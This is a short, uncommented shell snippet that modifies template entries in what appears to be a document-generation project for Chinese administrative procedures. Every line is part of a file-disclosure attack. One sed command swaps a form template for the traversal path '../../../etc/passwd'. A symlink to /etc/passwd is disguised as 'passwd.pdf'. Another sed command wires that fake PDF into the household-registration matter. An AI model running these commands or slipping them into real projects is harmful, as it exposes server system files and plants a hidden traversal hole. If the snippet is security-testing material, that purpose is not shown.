sed -i 's|template: forms/birth-form.pdf|template: ../../../etc/passwd|' ed/matters/birth-cert.md
ln -s /etc/passwd ed/assets/forms/passwd.pdf
sed -i 's|- {name: 居民身份证, source: 申请人自备, form: 原件, copies: 1}|- {name: 居民身份证, source: 申请人自备, form: 原件, copies: 1, template: forms/passwd.pdf}|' ed/matters/hukou.md
